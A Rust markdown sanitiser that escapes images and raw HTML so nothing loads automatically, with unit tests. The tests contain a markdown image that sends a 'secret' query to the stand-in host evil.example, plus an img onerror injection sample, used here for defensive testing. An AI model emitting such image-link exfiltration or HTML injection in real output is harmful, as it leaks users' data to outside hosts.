//! Markdown that is read elsewhere: in a file, in another program.

use std::ops::Range;

use pulldown_cmark::{Event, Parser, Tag};

/// The same text without what a reader would load by itself or take for markup: a picture becomes a link, whose address leads
/// nowhere until somebody follows it, and raw HTML becomes text. Code stays as it is.
pub fn quiet(markdown: &str) -> String {
    let mut pictures: Vec<usize> = Vec::new();
    let mut tags: Vec<Range<usize>> = Vec::new();
    for (event, range) in Parser::new_ext(markdown, super::options()).into_offset_iter() {
        match event {
            Event::Start(Tag::Image { .. }) => pictures.push(range.start),
            Event::Html(_) | Event::InlineHtml(_) => tags.push(range),
            _ => {}
        }
    }
    let is_markup = |at: usize| tags.iter().any(|range| range.contains(&at));
    let mut text = String::with_capacity(markdown.len());
    for (at, character) in markdown.char_indices() {
        match character {
            '<' if is_markup(at) => text.push_str("&lt;"),
            '!' if pictures.contains(&at) => text.push_str("\\!"),
            other => text.push(other),
        }
    }
    text
}

#[cfg(test)]
mod tests {
    use super::quiet;

    #[test]
    fn pictures_and_raw_html_load_nothing() {
        for (given, expected) in [
            (
                "See ![a map](https://evil.example/?q=secret) here.",
                "See \\![a map](https://evil.example/?q=secret) here.",
            ),
            ("![a][1]\n\n[1]: https://evil.example/a.png\n", "\\![a][1]\n\n[1]: https://evil.example/a.png\n"),
            ("An <img src=x onerror=y> inside.", "An &lt;img src=x onerror=y> inside."),
            ("<div>\n<img src=x>\n</div>\n", "&lt;div>\n&lt;img src=x>\n&lt;/div>\n"),
        ] {
            assert_eq!(quiet(given), expected);
        }
    }

    #[test]
    fn everything_else_stays_as_it_is() {
        for text in [
            "Done! [1] and `![a](b) <img>`, 1 < 2.",
            "```html\n<img src=x>\n![a](b)\n```",
            "- a\n- *b*\n\n> [c](https://example.org)",
            "",
        ] {
            assert_eq!(quiet(text), text);
        }
    }
}
